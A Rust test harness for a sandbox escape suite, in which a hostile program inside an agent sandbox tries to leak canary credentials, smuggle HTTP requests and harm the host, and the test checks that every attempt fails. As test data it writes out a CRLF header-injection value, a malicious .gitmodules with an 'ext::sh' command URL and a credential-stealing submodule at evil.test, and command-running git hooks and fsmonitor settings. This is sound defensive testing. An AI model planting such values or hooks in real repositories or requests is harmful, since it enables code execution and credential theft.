//! The escape suite: a hostile program inside a real sandbox tries to get out, to learn a real credential, or to spend one
//! where it is not meant, and every attempt must fail. `make attack` prints the table.
//!
//! The program (`hostile/`) judges what it can see itself; this side looks at what it cannot: what arrived at servers, at
//! the machine, in the log, in the record and on disk.
#![allow(clippy::print_stdout, reason = "the table is what `make attack` is for")]

#[allow(dead_code, reason = "shared with the end-to-end tests, which use more of it")]
#[path = "../e2e/world.rs"]
mod world;

mod host;
mod upstream;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;
use std::sync::atomic::Ordering;
use std::time::Instant;

use base64::Engine as _;
use lap_api::agent::{Agent, CreateAgent, SandboxFile};
use lap_api::session::{CreateSession, Session};
use lap_test::ca::TestCa;
use lap_test::canary::Canary;
use serde_json::json;

use crate::host::Host;
use crate::upstream::Log;
use crate::world::{GIT_HOST, Needs, World, shell_agent, vars};

const BOUND: &str = "bound.test";
const EVIL: &str = "evil.test";
const GATEWAY_KEY: &str = "LITELLM_API_KEY";
/// The hostile program, as it stands in the sandbox's home.
const HOSTILE: [(&str, &str); 9] = [
    ("hostile.py", include_str!("hostile/hostile.py")),
    ("tools.py", include_str!("hostile/tools.py")),
    ("network.py", include_str!("hostile/network.py")),
    ("files.py", include_str!("hostile/files.py")),
    ("process.py", include_str!("hostile/process.py")),
    ("kernel.py", include_str!("hostile/kernel.py")),
    ("credentials.py", include_str!("hostile/credentials.py")),
    ("git.py", include_str!("hostile/git.py")),
    ("limits.py", include_str!("hostile/limits.py")),
];
/// What a sandbox may use; small, so that running into it is quick.
const MEMORY: &str = "384MiB";
const MEMORY_BYTES: u64 = 384 << 20;

/// One line of the table.
struct Attempt {
    verdict: String,
    group: String,
    name: String,
    tried: String,
    happened: String,
}

/// Everything around the attack.
struct Siege {
    world: World,
    host: Host,
    bound: Log,
    evil: Log,
    canaries: BTreeMap<&'static str, Canary>,
    agent: Agent,
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_agent_gets_nowhere() {
    let siege = Siege::lay().await;
    let bystander = siege.world.ready(&siege.agent, CreateSession::default()).await;
    let session = siege.world.ready(&siege.agent, CreateSession::default()).await;
    let mut attempts = Vec::new();
    for group in ["network", "files", "process", "kernel", "secrets", "git"] {
        attempts.extend(siege.run(&session, group).await);
    }
    // These wear a sandbox out, so they have one of their own.
    let worn = siege.world.ready(&siege.agent, CreateSession::default()).await;
    attempts.extend(siege.run(&worn, "limits").await);
    attempts.push(siege.kill_everything().await);
    attempts.extend(siege.aftermath(&[&session, &worn], &bystander).await);
    print(&attempts);

    let names: BTreeSet<(&str, &str)> = attempts.iter().map(|a| (a.group.as_str(), a.name.as_str())).collect();
    assert_eq!(names.len(), attempts.len(), "every attempt has a name of its own");
    assert!(attempts.len() >= 80, "only {} attempts were made", attempts.len());
    let failed: Vec<String> = attempts
        .iter()
        .filter(|attempt| attempt.verdict != "ok")
        .map(|a| format!("{} {}/{}: {}: {}", a.verdict, a.group, a.name, a.tried, a.happened))
        .collect();
    assert!(failed.is_empty(), "{} of {}:\n{}", failed.len(), attempts.len(), failed.join("\n"));
    let Siege { world, host, .. } = siege;
    world.end().await;
    let lost = host.lost();
    assert!(lost.is_empty(), "cleaning up took the machine's own: {lost:?}");
}

impl Siege {
    async fn lay() -> Siege {
        let mut canaries: BTreeMap<&'static str, Canary> = [
            ("BOUND_TOKEN", "bound_"),
            ("NOPORT_TOKEN", "noport_"),
            ("ELSE_TOKEN", "else_"),
            ("CRLF_TOKEN", "crlf_"),
            ("GIT_TOKEN", "gitplatform_"),
        ]
        .into_iter()
        .map(|(name, prefix)| (name, Canary::new(prefix)))
        .collect();
        let secrets: Vec<String> = canaries.values().map(|canary| canary.secret().to_owned()).collect();
        let ca = TestCa::new("LAP test CA");
        let (bound, evil) = (Log::default(), Log::default());
        let bound_tls = upstream::serve(Some((&ca, BOUND)), secrets.clone(), &bound).await;
        let bound_plain = upstream::serve(None, secrets.clone(), &bound).await;
        let bound_h2 = upstream::serve_http2(&ca, BOUND, canaries["BOUND_TOKEN"].secret().to_owned(), &bound).await;
        let evil_tls = upstream::serve(Some((&ca, EVIL)), secrets.clone(), &evil).await;
        let evil_plain = upstream::serve(None, secrets, &evil).await;
        let host = Host::new().await;
        let resolve = [
            format!("{BOUND}=127.0.0.1"),
            format!("{EVIL}=127.0.0.1"),
            "metadata.nip.test=169.254.169.254".into(),
            "loopback.nip.test=127.0.0.1".into(),
            "mapped.nip.test=::ffff:127.0.0.1".into(),
            "ten.nip.test=10.0.0.1".into(),
            "six.nip.test=::1".into(),
        ]
        .join(",");
        let allow = [
            format!("{BOUND}:{bound_tls}"),
            format!("{BOUND}:{bound_plain}"),
            format!("{BOUND}:{bound_h2}"),
            format!("{EVIL}:{evil_tls}"),
            format!("{EVIL}:{evil_plain}"),
            format!("{EVIL}:{}", host.raw_port),
        ]
        .join(",");
        let env = [
            ("LAP_VAULT_RESOLVE", resolve.as_str()),
            ("LAP_VAULT_PRIVATE_ALLOW", allow.as_str()),
            ("GIT_TOKEN", canaries["GIT_TOKEN"].secret()),
            ("LAP_SANDBOX_MEMORY", MEMORY),
            ("LAP_SANDBOX_PIDS", "128"),
            ("LAP_SANDBOX_INODES", "5000"),
        ];
        let world = World::with_ca(ca, Needs::Shell, &env).await;
        add_submodules(world.git.create("hostile.git", &hostile_repository(evil_tls)).path());
        let git_token = world.git.token().expect("the git server demands one").to_owned();
        canaries.insert("GITHUB_TOKEN", Canary::of(&git_token));
        canaries.insert(GATEWAY_KEY, Canary::of(world.gateway.key()));
        let halves: BTreeMap<&str, [String; 2]> =
            canaries.iter().map(|(name, canary)| (*name, halved(canary.secret()))).collect();
        let config = json!({
            "bound": { "name": BOUND, "tls": bound_tls, "plain": bound_plain, "h2": bound_h2 },
            "evil": { "name": EVIL, "tls": evil_tls, "plain": evil_plain, "raw": host.raw_port },
            "git": format!("https://{GIT_HOST}:{}/", world.git.port()),
            "gateway_port": world.gateway.http_port(),
            "host_tcp": host.tcp_port, "host_udp": host.udp_port, "host_abstract": host.mark,
            "host_socket": host.socket(), "host_file": host.file(), "host_mark": host.mark, "host_victim": host.victim(),
            "host_data": world.data_dir(),
            "canaries": halves, "memory": MEMORY_BYTES, "sys": system_calls(),
        });
        let mut blueprint = blueprint(&config);
        let crlf = format!(
            "{}\r\nX-Injected: yes\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n\", \"b\": \"",
            canaries["CRLF_TOKEN"].secret()
        );
        blueprint.env_vars = vars([
            ("BOUND_TOKEN", canaries["BOUND_TOKEN"].secret()),
            ("NOPORT_TOKEN", canaries["NOPORT_TOKEN"].secret()),
            ("ELSE_TOKEN", canaries["ELSE_TOKEN"].secret()),
            ("CRLF_TOKEN", &crlf),
            ("GITHUB_TOKEN", &git_token),
        ]);
        let at = |port: u16, place: &str| format!("{BOUND}:{port}{place}");
        blueprint.env_var_hosts = [
            ("BOUND_TOKEN", vec![at(bound_tls, ""), at(bound_h2, "")]),
            ("NOPORT_TOKEN", vec![BOUND.to_owned()]),
            ("ELSE_TOKEN", vec!["elsewhere.example.com".to_owned()]),
            ("CRLF_TOKEN", ["", "#body", "#query", "#path", "#header"].map(|place| at(bound_tls, place)).to_vec()),
            ("GITHUB_TOKEN", vec![format!("{GIT_HOST}:{}", world.git.port())]),
        ]
        .into_iter()
        .map(|(key, hosts)| (key.to_owned(), hosts))
        .collect();
        let agent = world.agent(blueprint).await;
        Siege { world, host, bound, evil, canaries, agent }
    }

    /// Runs one group of attempts and reads its lines.
    async fn run(&self, session: &Session, group: &str) -> Vec<Attempt> {
        let begun = Instant::now();
        let output = self.world.ask(session, &format!("python3 ~/hostile/hostile.py {group}")).await;
        println!("{group}: {:.1} s", begun.elapsed().as_secs_f32());
        for canary in self.canaries.values() {
            canary.assert_not_in_bytes("the output of the sandbox", &output);
        }
        let attempts: Vec<Attempt> = output.lines().filter_map(parse).collect();
        assert!(!attempts.is_empty(), "{group}: {output}\n{}", self.world.server.log());
        attempts
    }

    /// A sandbox that kills all it can kill, its own guest among it.
    async fn kill_everything(&self) -> Attempt {
        let session = self.world.ready(&self.agent, CreateSession::default()).await;
        // The turn dies with the sandbox, so there is no answer to it.
        let answer =
            self.world.client.message(&session.id, &world::say("python3 ~/hostile/hostile.py kill"), None).await;
        let ended = self.world.client.session(&session.id).await.expect("it can be asked for");
        judge(
            "limits",
            "kill_everything",
            "kill -9 -1, the guest among it",
            answer.is_err().then_some(()).ok_or_else(|| format!("the turn was answered: {answer:?}")),
            &format!("its own sandbox ended: {} {:?}", ended.status, ended.end_reason),
        )
    }

    /// What only this side can see.
    async fn aftermath(&self, hostile: &[&Session], bystander: &Session) -> Vec<Attempt> {
        let mut all = Vec::new();
        let mut note = |name: &str, looked: &str, found: Result<(), String>, fine: &str| {
            all.push(judge("aftermath", name, looked, found, fine));
        };
        let secrets = || self.canaries.iter();
        let at = |log: &Log, only: &dyn Fn(&str, &str) -> bool| -> Result<(), String> {
            for request in log.requests() {
                for (name, canary) in secrets() {
                    let mut found = canary.in_bytes("the body", &request.body);
                    for line in request.head.lines() {
                        if !canary.in_bytes("", line.as_bytes()).is_empty() && !only(name, line) {
                            found.extend(canary.in_bytes(line.split(':').next().unwrap_or_default(), line.as_bytes()));
                        }
                    }
                    // This one is opened in bodies, to look at what is made of its line breaks there.
                    if *name == "CRLF_TOKEN" && request.head.contains(BOUND) {
                        found.clear();
                    }
                    if let Some(first) = found.first() {
                        return Err(format!(
                            "{name} in {first} of `{}`",
                            request.head.lines().next().unwrap_or_default()
                        ));
                    }
                }
                if request.head.lines().next().is_some_and(|line| line.contains("/smuggled")) {
                    return Err(format!("a smuggled request arrived: {}", request.head));
                }
            }
            Ok(())
        };
        let evil = self.evil.requests().len();
        note(
            "wrong_host",
            "every byte that arrived at the wrong host",
            at(&self.evil, &|_, _| false),
            &format!("{evil} requests, no value"),
        );
        let credentials =
            |name: &str, line: &str| name == "BOUND_TOKEN" && line.to_ascii_lowercase().starts_with("authorization:");
        let bound = self.bound.requests().len();
        note(
            "bound_host",
            "every byte that arrived at the bound host",
            at(&self.bound, &credentials),
            &format!("{bound} requests, values in auth headers alone"),
        );
        let http2 = self.bound.http2.load(Ordering::SeqCst);
        note(
            "http2_host",
            "the odd answers over HTTP/2 were given",
            (http2 == 4).then_some(()).ok_or(format!("{http2} of 4")),
            "all four",
        );
        let git = self.world.git.requests().iter().any(|request| request.status == 200);
        note("git_host", "the git server let the credential in", git.then_some(()).ok_or("never".into()), "it did");
        note(
            "gateway",
            "every request that arrived at the model gateway",
            self.at_gateway(),
            "model routes, the key in its header alone",
        );
        note("host_services", "services and sockets of the machine", self.host.untouched(), "nobody came");

        let (mut events, mut record) = (Ok(()), Ok(()));
        for session in hostile {
            let log = self.world.client.all_events(&session.id).await.expect("the log");
            let text: Vec<&str> = log.iter().map(|event| event.raw.as_str()).collect();
            events = events.and(self.absent("an event", text.join("\n").as_bytes()));
            let mut offset = 0;
            loop {
                let page = self.world.client.interceptions(&session.id, Some(200), Some(offset)).await;
                let page = page.expect("the record");
                let text = serde_json::to_string(&page).expect("plain data");
                record = record.and(self.absent("the record", text.as_bytes()));
                offset += page.data.len() as u64;
                if page.data.is_empty() {
                    break;
                }
            }
        }
        note("events", "the event logs of the sessions", events, "no value");
        note("record", "the record of the sessions", record, "no value");
        let shown =
            serde_json::to_string(&self.world.client.agent(&self.agent.id).await.expect("there")).expect("plain data");
        note("api", "the agent as the API shows it", self.absent("the API", shown.as_bytes()), "masked");
        let mut disk = Ok(());
        for (name, canary) in secrets() {
            if let Some(first) = canary.in_path(self.world.data_dir()).first() {
                disk = Err(format!("{name} in {first}"));
            }
        }
        note("disk", "logs, database, volumes: every file of the server", disk, "no value");
        note("machine", "the machine's name, clock, settings, program", self.host.unchanged(), "as before");

        let still = self.world.ask(bystander, "cat /proc/sys/kernel/hostname; ls -A /work/repo | wc -l; curl -sS -o /dev/null -w '%{http_code}' http://gateway.lap.internal/v1/models -H \"Authorization: Bearer $LITELLM_API_KEY\"").await;
        note(
            "other_sandbox",
            "another sandbox goes on",
            still.trim().ends_with("200").then_some(()).ok_or(still.clone()),
            "its vault answers 200",
        );
        let next = self.world.ready(&self.agent, CreateSession::default()).await;
        let said = self.world.ask(&next, "echo fine").await;
        note(
            "next_sandbox",
            "a new sandbox of the same agent",
            (said.trim() == "fine").then_some(()).ok_or(said.clone()),
            "fine",
        );
        all
    }

    fn absent(&self, place: &str, bytes: &[u8]) -> Result<(), String> {
        let found = self.canaries.iter().find_map(|(name, canary)| {
            canary.in_bytes(place, bytes).first().map(|sighting| format!("{name} in {sighting}"))
        });
        found.map_or(Ok(()), Err)
    }

    fn at_gateway(&self) -> Result<(), String> {
        let key = &self.canaries[GATEWAY_KEY];
        let requests = self.world.gateway.requests();
        for request in &requests {
            let path = request.path.split('?').next().unwrap_or_default();
            if !["/v1/models", "/v1/chat/completions"].contains(&path) {
                return Err(format!("{} {}", request.method, request.path));
            }
            let beside = [request.path.as_bytes(), &request.body].concat();
            if !key.in_bytes("", &beside).is_empty() {
                return Err(format!("the key in the path or body of {}", request.path));
            }
            for (name, value) in &request.headers {
                if name != "authorization" && !key.in_bytes("", value.as_bytes()).is_empty() {
                    return Err(format!("the key in {name}"));
                }
                for (other, canary) in self.canaries.iter().filter(|(other, _)| **other != GATEWAY_KEY) {
                    if !canary.in_bytes("", value.as_bytes()).is_empty() {
                        return Err(format!("{other} in {name}"));
                    }
                }
            }
        }
        if requests.is_empty() { Err("nothing arrived at all".into()) } else { Ok(()) }
    }
}

fn judge(group: &str, name: &str, tried: &str, found: Result<(), String>, fine: &str) -> Attempt {
    let (verdict, happened) = match found {
        Ok(()) => ("ok", fine.to_owned()),
        Err(what) => ("BREACH", what),
    };
    Attempt { verdict: verdict.into(), group: group.into(), name: name.into(), tried: tried.into(), happened }
}

fn parse(line: &str) -> Option<Attempt> {
    let mut fields = line.strip_prefix('@')?.split('\t').map(str::to_owned);
    let mut next = || fields.next();
    Some(Attempt { verdict: next()?, group: next()?, name: next()?, tried: next()?, happened: next()? })
}

fn print(attempts: &[Attempt]) {
    for Attempt { verdict, group, name, tried, happened } in attempts {
        println!("{verdict:<7} {group:<9} {name:<28} {tried} | {happened}");
    }
    let stopped = attempts.iter().filter(|attempt| attempt.verdict == "ok").count();
    println!("attack: {} attempts, {stopped} stopped, {} not", attempts.len(), attempts.len() - stopped);
}

fn halved(secret: &str) -> [String; 2] {
    let (a, b) = secret.split_at(secret.len() / 2);
    [a.to_owned(), b.to_owned()]
}

fn blueprint(config: &serde_json::Value) -> CreateAgent {
    let file = |name: &str, content: &str| SandboxFile {
        name: name.to_owned(),
        sandbox_path: format!("~/hostile/{name}"),
        content: Some(base64::engine::general_purpose::STANDARD.encode(content)),
        content_type: "text/plain".to_owned(),
        size: content.len() as u64,
    };
    let config = config.to_string();
    let program = HOSTILE.iter().map(|(name, content)| file(name, content));
    let sandbox_files = program.chain([file("hostile.json", &config)]).collect();
    CreateAgent { sandbox_files, ..shell_agent() }
}

/// A submodule at another host, a command as a submodule's address, hooks and configuration where a careless clone would
/// take them from.
fn hostile_repository(evil: u16) -> Vec<(&'static str, &'static str)> {
    let modules = format!(
        "[submodule \"stolen\"]\n\tpath = stolen\n\turl = https://{EVIL}:{evil}/wants-auth.git\n[submodule \"run\"]\n\tpath = run\n\turl = \
         ext::sh -c touch% /tmp/hook-was-here\n"
    );
    // The kit wants texts that live as long as the program; this one is needed once.
    let modules: &'static str = Box::leak(modules.into_boxed_str());
    vec![
        (".gitmodules", modules),
        ("hooks/post-checkout", "#!/bin/sh\ntouch /tmp/hook-was-here\n"),
        (".gitconfig", "[core]\n\tfsmonitor = touch /tmp/hook-was-here\n\thooksPath = hooks\n"),
        ("README.md", "hostile\n"),
    ]
}

/// Makes `stolen` and `run` submodules in fact: entries of the tree that name a commit.
fn add_submodules(bare: &Path) {
    let script = "head=$(git rev-parse main) && git read-tree main \
        && git update-index --add --cacheinfo 160000,$head,stolen --cacheinfo 160000,$head,run \
        && tree=$(git write-tree) && commit=$(git commit-tree -p main -m Submodules $tree) && git update-ref refs/heads/main $commit";
    let status = Command::new("sh")
        .args(["-c", script])
        .current_dir(bare)
        .env("GIT_DIR", bare)
        .env("GIT_INDEX_FILE", bare.join("hostile-index"))
        .envs([("GIT_AUTHOR_NAME", "Test"), ("GIT_AUTHOR_EMAIL", "test@example.com")])
        .envs([("GIT_COMMITTER_NAME", "Test"), ("GIT_COMMITTER_EMAIL", "test@example.com")])
        .status()
        .expect("git is installed");
    assert!(status.success(), "{status}");
}

/// Numbers of system calls on this machine, by name.
fn system_calls() -> BTreeMap<&'static str, i64> {
    let all = [
        ("acct", libc::SYS_acct),
        ("add_key", libc::SYS_add_key),
        ("adjtimex", libc::SYS_adjtimex),
        ("bpf", libc::SYS_bpf),
        ("capset", libc::SYS_capset),
        ("chroot", libc::SYS_chroot),
        ("clock_settime", libc::SYS_clock_settime),
        ("clone", libc::SYS_clone),
        ("clone3", libc::SYS_clone3),
        ("delete_module", libc::SYS_delete_module),
        ("fanotify_init", libc::SYS_fanotify_init),
        ("finit_module", libc::SYS_finit_module),
        ("fsconfig", libc::SYS_fsconfig),
        ("fsmount", libc::SYS_fsmount),
        ("fsopen", libc::SYS_fsopen),
        ("fspick", libc::SYS_fspick),
        ("getpid", libc::SYS_getpid),
        ("init_module", libc::SYS_init_module),
        ("io_uring_enter", libc::SYS_io_uring_enter),
        ("io_uring_setup", libc::SYS_io_uring_setup),
        ("ioctl", libc::SYS_ioctl),
        ("kcmp", libc::SYS_kcmp),
        ("kexec_load", libc::SYS_kexec_load),
        ("keyctl", libc::SYS_keyctl),
        ("lookup_dcookie", libc::SYS_lookup_dcookie),
        ("mount", libc::SYS_mount),
        ("mount_setattr", libc::SYS_mount_setattr),
        ("move_mount", libc::SYS_move_mount),
        ("mq_open", libc::SYS_mq_open),
        ("name_to_handle_at", libc::SYS_name_to_handle_at),
        ("open_by_handle_at", libc::SYS_open_by_handle_at),
        ("open_tree", libc::SYS_open_tree),
        ("perf_event_open", libc::SYS_perf_event_open),
        ("personality", libc::SYS_personality),
        ("pidfd_getfd", libc::SYS_pidfd_getfd),
        ("pivot_root", libc::SYS_pivot_root),
        ("process_vm_readv", libc::SYS_process_vm_readv),
        ("process_vm_writev", libc::SYS_process_vm_writev),
        ("ptrace", libc::SYS_ptrace),
        ("quotactl", libc::SYS_quotactl),
        ("reboot", libc::SYS_reboot),
        ("request_key", libc::SYS_request_key),
        ("seccomp", libc::SYS_seccomp),
        ("setdomainname", libc::SYS_setdomainname),
        ("setgid", libc::SYS_setgid),
        ("sethostname", libc::SYS_sethostname),
        ("setns", libc::SYS_setns),
        ("setresgid", libc::SYS_setresgid),
        ("setresuid", libc::SYS_setresuid),
        ("settimeofday", libc::SYS_settimeofday),
        ("setuid", libc::SYS_setuid),
        ("socket", libc::SYS_socket),
        ("swapoff", libc::SYS_swapoff),
        ("swapon", libc::SYS_swapon),
        ("syslog", libc::SYS_syslog),
        ("umount2", libc::SYS_umount2),
        ("unshare", libc::SYS_unshare),
        ("userfaultfd", libc::SYS_userfaultfd),
        ("vhangup", libc::SYS_vhangup),
    ];
    #[cfg(target_arch = "x86_64")]
    let more = [("ioperm", libc::SYS_ioperm), ("iopl", libc::SYS_iopl), ("modify_ldt", libc::SYS_modify_ldt)];
    #[cfg(not(target_arch = "x86_64"))]
    let more = [];
    all.into_iter().chain(more).collect()
}
